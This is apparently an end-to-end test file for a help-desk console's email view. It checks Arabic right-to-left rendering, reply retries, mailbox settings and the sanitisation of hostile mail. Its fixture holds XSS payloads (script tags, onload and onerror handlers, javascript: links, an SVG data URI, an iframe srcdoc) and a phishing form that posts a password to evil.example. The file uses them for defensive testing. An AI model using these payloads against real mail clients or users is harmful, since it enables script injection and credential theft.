/**
 * Email in the console, end to end: real mail over SMTP into Sanad's listener, opened in Chromium.
 * The hostile mail is the point: whatever its HTML tries, no script runs, nothing pops up, the
 * console stays where it is and in front, and remote images load only when asked (https only).
 */
import { crc32, deflateSync } from 'node:zlib';
import nodemailer from 'nodemailer';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningSanad } from '../src/main.ts';
import { hasChromium, startSmtpSink, withScreenshots, type SmtpSink } from '../src/testing/index.ts';
import { saveScreenshot, signInInPage, signInOverApi, startDemoDesk, type DemoDesk, type Session } from './support/demo-desk.ts';

/**
 * The few DOM shapes the page functions below touch: they run in the browser, but the project's
 * type check has no DOM library, so they are declared here, narrowly.
 */
interface El {
  dir: string;
  complete: boolean;
  naturalWidth: number;
  attributes: Iterable<{ name: string }>;
  firstElementChild: El | null;
  contentDocument: Doc | null;
  getAttribute(name: string): string | null;
  getBoundingClientRect(): { left: number; top: number; height: number };
  closest(selector: string): El | null;
}
interface Doc {
  readyState: string;
  documentElement: El;
  body: El;
  querySelector(selector: string): El | null;
  querySelectorAll(selector: string): ArrayLike<El> & Iterable<El>;
  elementFromPoint(x: number, y: number): El | null;
}
declare const document: Doc;
declare const window: { __sanadPwned?: unknown };

let desk: DemoDesk;
let sanad: RunningSanad;
let browser: Browser;
let sink: SmtpSink;
let admin: Session;

const mailbox = 'support@sanad-e2e.test';
const screenshot = (page: Page, name: string) => saveScreenshot(page, 'email', name);

async function call(session: Session, method: string, path: string, body?: unknown): Promise<Response> {
  return fetch(`${sanad.url}${path}`, {
    method, headers: { 'content-type': 'application/json', cookie: session.cookie, 'x-csrf-token': session.csrfToken }, ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
}

/** A real PNG of one colour (so the console's frame has a picture of known size to fit). */
function png(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type, 'latin1'), data])));
    return Buffer.concat([length, Buffer.from(type, 'latin1'), data, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(width * 3, Buffer.from([11, 92, 173]))]);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.concat(new Array(height).fill(row)))), chunk('IEND', Buffer.alloc(0)),
  ]);
}

function smtp() {
  return nodemailer.createTransport({ host: '127.0.0.1', port: sanad.app.emailSmtpPort!, secure: false, ignoreTLS: true });
}

interface Inbound {
  id: string;
  from: string | null;
  messageId: string | null;
  status: string;
  conversationId: string | null;
}

/** Waits until Sanad has read (or given up reading) the mail `which` picks. */
async function readInbound(which: (m: Inbound) => boolean, what: string): Promise<Inbound> {
  for (let i = 0; i < 100; i += 1) {
    const answer = await call(admin, 'GET', '/api/v1/email/inbound?limit=50');
    const { items } = (await answer.json()) as { items: Inbound[] };
    const found = items.find(which);
    if (found && found.status !== 'received') return found;
    await new Promise((r) => setTimeout(r, 200));
  }
  throw new Error(`${what} was not read`);
}

const readMail = (messageId: string) => readInbound((m) => !!m.messageId?.includes(messageId.replace(/^<|>$/g, '')), `mail ${messageId}`);

/** Everything a script in the mail would do if it ran: call the trap, write to the console, open a dialog. */
const pwn = (what: string) => `window.top.__sanadPwned('${what}');console.log('sanad-pwned ${what}');alert('${what}')`;

const hostileHtml = `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<script>${pwn('script')}</script>
<style>body{background:url(https://evil.example/css.png)} .x{position:fixed}</style>
</head><body onload="${pwn('body-onload')}">
<h1>Your invoice is ready</h1>
<p>Please <a href="javascript:${pwn('js-link')}" data-testid="js-link">confirm your password</a>.</p>
<img src="x" onerror="${pwn('img-onerror')}">
<img src="javascript:${pwn('img-js')}">
<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${pwn('svg-data')}"/>`).toString('base64')}">
<svg onload="${pwn('svg')}"><circle r="5"/></svg>
<iframe srcdoc="<script>${pwn('iframe-srcdoc')}</script>"></iframe>
<object data="https://evil.example/x.swf"></object>
<form action="https://evil.example/steal" method="post"><input name="password" value="hunter2"><button>Log in</button></form>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">OVERLAY</div>
<img src="https://tracker.example/pixel.gif?u=42" width="1" height="1" alt="">
</body></html>`;

/** A trapped browser page: records script runs, dialogs, console lines, top-level navigations and tracker requests. */
async function trappedPage(context: BrowserContext) {
  const trap = { pwned: [] as string[], dialogs: [] as string[], logs: [] as string[], navigations: [] as string[], tracker: [] as string[], evil: [] as string[] };
  const page = await context.newPage();
  await page.exposeFunction('__sanadPwned', (what: string) => trap.pwned.push(what));
  page.on('dialog', (dialog) => {
    trap.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  // Script output only: the browser's own reports of what it blocked quote the blocked URL, marker included.
  page.on('console', (message) => message.type() !== 'error' && message.type() !== 'warning' && trap.logs.push(message.text()));
  page.on('framenavigated', (frame) => frame === page.mainFrame() && trap.navigations.push(frame.url()));
  page.on('popup', (popup) => trap.navigations.push(`popup ${popup.url()}`));
  await page.route('https://tracker.example/**', (route) => {
    trap.tracker.push(route.request().url());
    return route.fulfill({ status: 200, contentType: 'image/png', body: png(1, 1) });
  });
  await page.route('https://evil.example/**', (route) => {
    trap.evil.push(route.request().url());
    return route.fulfill({ status: 204, body: '' });
  });
  return { page, trap };
}

/** The frame's document, read from the console (it is same-origin, and has no script of its own). */
async function inFrame<T>(page: Page, messageId: string, read: (doc: Doc, frame: El) => T): Promise<T> {
  const source = `(${read.toString()})`;
  return page.evaluate(
    ([id, fn]) => {
      const frame = document.querySelector(`[data-message-id="${id}"] [data-testid="email-frame"]`)!;
      return (0, eval)(fn)(frame.contentDocument!, frame) as T;
    },
    [messageId, source] as const,
  );
}

/** Nothing ran, nothing popped up, the console did not move, and it is on top where a full-screen overlay would be. */
async function expectUntouched(page: Page, trap: Awaited<ReturnType<typeof trappedPage>>['trap'], url: string) {
  expect(trap.pwned).toEqual([]);
  expect(trap.dialogs).toEqual([]);
  expect(trap.logs.filter((l) => l.includes('sanad-pwned'))).toEqual([]);
  expect(trap.navigations.filter((u) => !u.startsWith(sanad.url))).toEqual([]);
  expect(page.url()).toBe(url);
  expect(await page.evaluate(() => typeof window.__sanadPwned)).toBe('function');
  // Where an escaped overlay would sit (top-left corner, the composer), the console's own elements answer.
  const hits = await page.evaluate(() => {
    const at = (x: number, y: number) => document.elementFromPoint(x, y);
    const composer = document.querySelector('[data-testid="reply-textarea"]')!.getBoundingClientRect();
    return { corner: at(5, 5)?.closest('.topbar') !== null, composer: at(composer.left + 10, composer.top + 10)?.getAttribute('data-testid') };
  });
  expect(hits).toEqual({ corner: true, composer: 'reply-textarea' });
}

describe.runIf(hasChromium)('email in the console, in a real browser', () => {
  beforeAll(async () => {
    // The relay is a local sink that refuses at first, so a reply fails and is sent again from the console.
    sink = await startSmtpSink();
    sink.refuse('permanent');
    desk = await startDemoDesk('email', { SANAD_SMTP_PORT: '0', SANAD_SMTP_HOST: '127.0.0.1', SANAD_SMTP_RELAY: sink.url });
    ({ sanad, browser } = desk);
    admin = await signInOverApi(sanad, 'admin@sanad.test');
    const created = await call(admin, 'POST', '/api/v1/email/mailboxes', { address: mailbox, name: 'Sanad support · دعم سند', inbound: 'smtp' });
    expect(created.status).toBe(201);
  }, 180_000);
  afterAll(async () => {
    await desk?.stop();
    await sink?.close();
  });

  it('an Arabic mail shows right to left with its inline picture; a refused reply says so and is sent again', async () => {
    const sent = await smtp().sendMail({
      from: { name: 'ليلى حسن', address: 'layla@example.com' }, to: mailbox, cc: 'sami@example.com', subject: 'لم يصل طلبي رقم 4412',
      text: 'مرحبًا،\nطلبي رقم 4412 لم يصل بعد، مع أنه شُحن قبل أسبوع.\nشكرًا',
      html: '<div dir="rtl"><p>مرحبًا،</p><p>طلبي رقم <b>4412</b> لم يصل بعد، مع أنه شُحن قبل أسبوع.</p><p><img src="cid:parcel@shop" alt="صورة الطرد"></p><p>شكرًا</p></div>',
      attachments: [{ filename: 'parcel.png', content: png(240, 160), cid: 'parcel@shop', contentType: 'image/png' }],
    });
    const inbound = await readMail(sent.messageId);
    expect(inbound.status).toBe('processed');
    const conversationId = inbound.conversationId!;
    const [email] = ((await (await call(admin, 'GET', `/api/v1/conversations/${conversationId}/email`)).json()) as { items: { messageId: string; rfcMessageId: string }[] }).items;

    const context = await browser.newContext({ locale: 'ar', viewport: { width: 1400, height: 1000 } });
    const { page } = await trappedPage(context);
    await withScreenshots('email-arabic', { page }, async () => {
      await signInInPage(sanad, page, `/console/conversations/${conversationId}`, 'admin@sanad.test');
      const card = page.locator(`[data-message-id="${email!.messageId}"] [data-testid="email"]`);
      await card.waitFor();
      expect(await card.getAttribute('data-text-direction')).toBe('rtl');
      expect(await card.getByTestId('email-subject').textContent()).toBe('لم يصل طلبي رقم 4412');
      expect(await card.getByTestId('email-from').textContent()).toContain('layla@example.com');
      expect(await card.getByTestId('email-cc').textContent()).toContain('sami@example.com');
      const frame = card.getByTestId('email-frame');
      expect(await frame.getAttribute('sandbox')).toBe('allow-same-origin allow-popups allow-popups-to-escape-sandbox');
      // The inline picture comes from Sanad (cookie and 'self' work in the frame), and the frame grows to fit it.
      await page.waitForFunction((id) => {
        const f = document.querySelector(`[data-message-id="${id}"] [data-testid="email-frame"]`);
        const img = f?.contentDocument?.querySelector('img');
        return !!img && img.complete && img.naturalWidth === 240 && f!.getBoundingClientRect().height >= 160;
      }, email!.messageId);
      const inside = await inFrame(page, email!.messageId, (doc, f) => ({
        dir: doc.documentElement.dir, csp: doc.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content'),
        fits: Math.abs(f.getBoundingClientRect().height - doc.body.firstElementChild!.getBoundingClientRect().height) <= 20,
      }));
      expect(inside).toEqual({ dir: 'rtl', csp: "default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'", fits: true });
      await screenshot(page, 'arabic-ar');

      // The reply goes out as a mail; the relay refuses it for good, so the console says so, with the reason.
      await page.getByTestId('reply-textarea').fill('أهلًا ليلى، تتبعنا الطرد وسيصلك غدًا.');
      await page.getByTestId('send-button').click();
      const delivery = page.locator('[data-kind="agent"] [data-testid="email-delivery"]');
      await page.locator('[data-kind="agent"] [data-testid="email-delivery"][data-status="failed"]').waitFor({ timeout: 20_000 });
      expect(await delivery.getByTestId('email-delivery-error').textContent()).toContain('no such user');
      await screenshot(page, 'reply-failed-ar');

      // The relay takes mail again: "send again" sends it, with the threading headers.
      sink.refuse(null);
      await delivery.getByTestId('email-delivery-retry').click();
      await page.locator('[data-kind="agent"] [data-testid="email-delivery"][data-status="sent"]').waitFor({ timeout: 20_000 });
      expect(sink.mails).toHaveLength(1);
      expect(sink.mails[0]!.to).toEqual(['layla@example.com']);
      const raw = sink.mails[0]!.raw.toString('utf8');
      expect(raw).toMatch(new RegExp(`^In-Reply-To: <${email!.rfcMessageId.replace(/^<|>$/g, '').replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}>`, 'm'));
      await screenshot(page, 'reply-sent-ar');
    });
    await context.close();
  }, 60_000);

  it('a hostile HTML mail runs nothing, cannot cover or move the console, and reveals only its https image when asked', async () => {
    const sent = await smtp().sendMail({ from: 'attacker@evil.example', to: mailbox, subject: 'Invoice ready', text: 'Your invoice is ready.', html: hostileHtml });
    const inbound = await readMail(sent.messageId);
    expect(inbound.status).toBe('processed');
    const conversationId = inbound.conversationId!;
    const [email] = ((await (await call(admin, 'GET', `/api/v1/conversations/${conversationId}/email`)).json()) as { items: { messageId: string; blockedImages: number }[] }).items;
    expect(email!.blockedImages).toBe(1);

    const context = await browser.newContext({ locale: 'en', viewport: { width: 1400, height: 1000 } });
    const { page, trap } = await trappedPage(context);
    await withScreenshots('email-hostile', { page }, async () => {
      const url = `${sanad.url}/console/conversations/${conversationId}`;
      await signInInPage(sanad, page, `/console/conversations/${conversationId}`, 'admin@sanad.test');
      const card = page.locator(`[data-message-id="${email!.messageId}"] [data-testid="email"]`);
      await card.getByTestId('email-frame').waitFor();
      await page.waitForFunction((id) => document.querySelector(`[data-message-id="${id}"] [data-testid="email-frame"]`)?.contentDocument?.readyState === 'complete', email!.messageId);
      // A click on what was a javascript: link does nothing.
      await page.frameLocator(`[data-message-id="${email!.messageId}"] [data-testid="email-frame"]`).getByText('confirm your password').click();
      await page.waitForTimeout(1_000);
      await expectUntouched(page, trap, url);
      expect(trap.tracker).toEqual([]);
      expect(trap.evil).toEqual([]);
      await screenshot(page, 'hostile-en');

      const before = await inFrame(page, email!.messageId, (doc) => ({
        scripts: doc.querySelectorAll('script, iframe, object, embed, form, svg, meta[http-equiv="refresh"], base').length,
        srcs: [...doc.querySelectorAll('img')].map((i) => i.getAttribute('src')),
        handlers: [...doc.querySelectorAll('*')].flatMap((el) => [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => a.name)),
      }));
      expect(before.scripts).toBe(0);
      expect(before.handlers).toEqual([]);
      expect(before.srcs.filter((s) => s && !s.startsWith('data:image/png'))).toEqual([]);

      // Only the https tracker is revealed, and only now is it fetched.
      await card.getByTestId('email-remote-images').click();
      await page.locator(`[data-message-id="${email!.messageId}"] [data-testid="email-frame"][data-remote-images="shown"]`).waitFor();
      await expect.poll(() => trap.tracker.length, { timeout: 10_000 }).toBe(1);
      expect(trap.tracker[0]).toBe('https://tracker.example/pixel.gif?u=42');
      const after = await inFrame(page, email!.messageId, (doc) => [...doc.querySelectorAll('img')].map((i) => i.getAttribute('src')).filter((s) => s !== null));
      expect(after).toEqual(['https://tracker.example/pixel.gif?u=42']);
      await page.waitForTimeout(500);
      await expectUntouched(page, trap, url);
      expect(trap.evil).toEqual([]);
    });
    await context.close();
  }, 60_000);

  it('even HTML that skipped the server\'s sanitiser runs nothing in the frame, and the reveal refuses non-https schemes', async () => {
    const sent = await smtp().sendMail({ from: 'attacker2@evil.example', to: mailbox, subject: 'Raw', text: 'raw', html: '<p>placeholder</p>' });
    const inbound = await readMail(sent.messageId);
    const conversationId = inbound.conversationId!;
    const context = await browser.newContext({ locale: 'en', viewport: { width: 1400, height: 1000 } });
    const { page, trap } = await trappedPage(context);
    // The second layer alone: the email API is made to answer with the raw hostile HTML, plus held-back
    // images whose URLs are javascript:, data: and https:.
    const held = '<img data-sanad-remote-src="javascript:window.top.__sanadPwned(\'reveal-js\')"><img data-sanad-remote-src="data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E"><img data-sanad-remote-src="https://tracker.example/held.gif">';
    await page.route(`**/api/v1/conversations/${conversationId}/email`, async (route) => {
      const answer = await route.fetch();
      const body = (await answer.json()) as { items: { html: string | null; blockedImages: number }[] };
      for (const item of body.items) Object.assign(item, { html: hostileHtml.replace('</body>', `${held}</body>`), blockedImages: 3 });
      await route.fulfill({ response: answer, json: body });
    });
    await withScreenshots('email-raw', { page }, async () => {
      const url = `${sanad.url}/console/conversations/${conversationId}`;
      await signInInPage(sanad, page, `/console/conversations/${conversationId}`, 'admin@sanad.test');
      const frame = page.getByTestId('email-frame');
      await frame.waitFor();
      await page.waitForTimeout(1_500);
      await expectUntouched(page, trap, url);
      // The frame's policy blocks the direct tracker image, the stylesheet background, the form and the nested frame.
      expect(trap.tracker).toEqual([]);
      await screenshot(page, 'raw-en');

      await page.getByTestId('email-remote-images').click();
      await page.locator('[data-testid="email-frame"][data-remote-images="shown"]').waitFor();
      await expect.poll(() => trap.tracker.includes('https://tracker.example/held.gif'), { timeout: 10_000 }).toBe(true);
      const srcs = await page.evaluate(() => [...document.querySelector('[data-testid="email-frame"]')!.contentDocument!.querySelectorAll('img')].map((i) => i.getAttribute('src')));
      // The three held-back images come last: only the https one got a src. (The raw mail's own
      // javascript: image is still there, blocked by the sandbox and the frame's policy.)
      expect(srcs.slice(-3)).toEqual([null, null, 'https://tracker.example/held.gif']);
      await page.waitForTimeout(500);
      await expectUntouched(page, trap, url);
    });
    await context.close();
  }, 60_000);

  it('admins manage mailboxes (the IMAP password never shown) and see mail that could not be read', async () => {
    // Bytes that are not a mail at all cannot be read: they are kept as they came and listed as failed.
    await smtp().sendMail({ envelope: { from: 'broken@example.com', to: [mailbox] }, raw: 'this is not a mail\r\n\r\nWho am I?\r\n' });
    const failed = await readInbound((m) => m.from === 'broken@example.com', 'the broken mail');

    const context = await browser.newContext({ locale: 'en', viewport: { width: 1400, height: 1000 } });
    const page = await context.newPage();
    await withScreenshots('email-settings', { page }, async () => {
      await signInInPage(sanad, page, '/console/', 'admin@sanad.test');
      await page.getByTestId('email-settings-button').click();
      await page.getByTestId('email-settings').waitFor();
      expect(page.url()).toMatch(/\/console\/settings\/email$/);
      await page.locator(`[data-testid="mailbox-row"][data-address="${mailbox}"]`).waitFor();

      // A new IMAP mailbox needs its password; the form says so before sending anything.
      await page.getByTestId('mailbox-add').click();
      const form = page.getByTestId('mailbox-form');
      await form.getByTestId('mailbox-address').fill('billing@sanad-e2e.test');
      await form.getByTestId('mailbox-name').fill('Billing · الفوترة');
      await form.getByTestId('mailbox-inbound-imap').check();
      await form.getByTestId('mailbox-imapHost').fill('127.0.0.1');
      await form.getByTestId('mailbox-imapUser').fill('billing');
      await form.getByTestId('mailbox-save').click();
      await form.getByTestId('mailbox-problem').filter({ hasText: 'IMAP password' }).waitFor();
      await form.getByTestId('mailbox-imapPassword').fill('imap-secret-1');
      await form.getByTestId('mailbox-save').click();
      const row = page.locator('[data-testid="mailbox-row"][data-address="billing@sanad-e2e.test"]');
      await row.waitFor();
      expect(await row.getByTestId('mailbox-inbound').textContent()).toContain('127.0.0.1');

      // Editing: the password field starts empty and says a password is kept; saving without one keeps it.
      await row.getByTestId('mailbox-edit').click();
      expect(await form.getByTestId('mailbox-imapPassword').inputValue()).toBe('');
      await form.getByText('A password is stored').waitFor();
      expect(await page.content()).not.toContain('imap-secret-1');
      await form.getByTestId('mailbox-imapPollSeconds').fill('120');
      await form.getByTestId('mailbox-save').click();
      await page.getByTestId('mailbox-notice').filter({ hasText: 'saved' }).waitFor();
      const stored = ((await (await call(admin, 'GET', '/api/v1/email/mailboxes')).json()) as { items: { address: string; hasImapPassword: boolean; imap: { pollSeconds: number } | null }[] }).items;
      expect(stored.find((m) => m.address === 'billing@sanad-e2e.test')).toMatchObject({ hasImapPassword: true, imap: { pollSeconds: 120 } });

      // Disabling keeps the row, marked.
      await row.getByTestId('mailbox-toggle').click();
      await page.locator('[data-testid="mailbox-row"][data-address="billing@sanad-e2e.test"][data-enabled="false"]').waitFor();

      // The mail that could not be read: listed, downloadable as it came, and read again on request.
      expect(failed.status).toBe('failed');
      const failedRow = page.locator(`[data-testid="failed-mail-row"][data-inbound-id="${failed.id}"]`);
      await failedRow.waitFor();
      const download = await Promise.all([page.waitForEvent('download'), failedRow.getByTestId('failed-mail-download').click()]).then(([d]) => d);
      const original = await download.createReadStream().then(async (stream) => {
        const chunks: Buffer[] = [];
        for await (const c of stream) chunks.push(c as Buffer);
        return Buffer.concat(chunks).toString('utf8');
      });
      expect(original).toContain('Who am I?');
      await screenshot(page, 'settings-en');
      await page.getByTestId('language-switcher').selectOption('ar');
      await page.getByRole('heading', { name: 'صناديق البريد' }).waitFor();
      await screenshot(page, 'settings-ar');
      await page.getByTestId('language-switcher').selectOption('en');
      await failedRow.getByTestId('failed-mail-retry').click();
      await page.getByTestId('failed-mail-notice').filter({ hasText: 'read again' }).waitFor();
    });
    await context.close();
  }, 60_000);
});
